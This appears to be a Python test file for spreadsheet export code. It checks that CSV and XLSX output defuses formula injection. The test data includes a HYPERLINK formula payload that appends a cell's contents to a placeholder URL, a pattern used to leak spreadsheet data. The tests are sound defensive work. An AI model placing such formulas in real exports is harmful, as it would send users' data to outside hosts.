import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from kc_common.exports import csv_cell, csv_line, from_csv_text, xlsx_row, xlsx_text

FORMULA = '=HYPERLINK("http://x"&B2,"x")'


def test_csv_text_that_a_spreadsheet_would_run_gets_a_quote():
    for text in (FORMULA, "+84 912 345 678", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
    for text in ("Sơn mài", "a=b", " =1", "", "84-912"):
        assert csv_cell(text) == text


def test_csv_numbers_dates_and_booleans_stay_as_they_are():
    assert csv_cell(-5) == -5 and csv_cell(-1.5) == -1.5 and csv_cell(Decimal("-2")) == -2
    assert csv_cell(None) == "" and csv_cell(True) == "true"
    assert csv_cell(date(2024, 1, 2)) == "2024-01-02"
    line = csv_line([FORMULA, -5, "x"])
    assert line.endswith("\r\n")
    assert next(csv.reader(io.StringIO(line))) == ["'" + FORMULA, "-5", "x"]


def test_an_importer_reads_back_what_was_exported():
    for text in (FORMULA, "+84 912", "plain", "'quoted"):
        assert from_csv_text(csv_cell(text)) == text


def test_xlsx_text_is_a_string_cell_never_a_formula_and_never_an_error():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    when = datetime(2024, 5, 6, 7, 8, 9, tzinfo=UTC)
    values = [FORMULA, "a\x01b\x00c", "-1", -5, 2.5, True, None, date(2024, 1, 2), when, "Đồng"]
    sheet.append(xlsx_row(sheet, values))
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    cells = next(load_workbook(out)["x"].iter_rows())
    assert cells[0].value == FORMULA and cells[0].data_type == "s"
    assert cells[1].value == "a\ufffdb\ufffdc" and cells[1].data_type == "s"
    assert cells[2].value == "-1" and cells[2].data_type == "s"
    assert cells[3].value == -5 and cells[3].data_type == "n"
    assert cells[4].value == 2.5 and cells[5].value is True and cells[6].value is None
    assert cells[7].value == datetime(2024, 1, 2) and cells[8].value == when.replace(tzinfo=None)
    assert cells[9].value == "Đồng"
    assert not any(c.data_type == "f" for c in cells)


def test_xlsx_text_keeps_tab_and_line_breaks():
    assert xlsx_text("a\tb\nc\r\n") == "a\tb\nc\r\n"
    assert xlsx_text("\x0b\x1f") == "\ufffd\ufffd"
